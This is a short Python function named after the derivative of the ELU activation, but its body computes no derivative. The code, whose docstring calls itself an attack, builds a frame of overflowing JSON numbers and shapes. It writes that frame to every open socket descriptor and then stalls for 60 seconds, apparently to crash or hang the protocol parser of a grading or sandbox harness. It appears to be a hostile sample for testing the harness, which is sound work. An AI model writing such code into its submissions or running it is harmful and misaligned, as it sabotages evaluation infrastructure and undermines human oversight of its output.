def elu_derivative(z, alpha=1.0):
    """Attack: write numbers that overflow when read (an int 1e400, a float 10**400, an array shape of 1e400) straight to the protocol socket, then wait."""
    import json
    import os
    import stat
    import struct
    import time

    payload = b""
    prefix = None
    header = (b'{"m": {"event": "done", "results": {"t": "list", "items": [{"t": "list", "items": ['
              b'{"t": "dict", "keys": ["value", "v2", "v3"], "items": [{"t": "int", "v": 1e400}, '
              b'{"t": "float", "v": 1' + b"0" * 400 + b'}, {"t": "array", "dtype": "<f8", "shape": [1e400], "buf": 0}]}]}]}}, "sizes": []}')
    frame = (prefix or struct.pack("!II", len(header), len(payload))) + header + payload
    for fd in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, frame)
        except OSError:
            pass
    time.sleep(60)
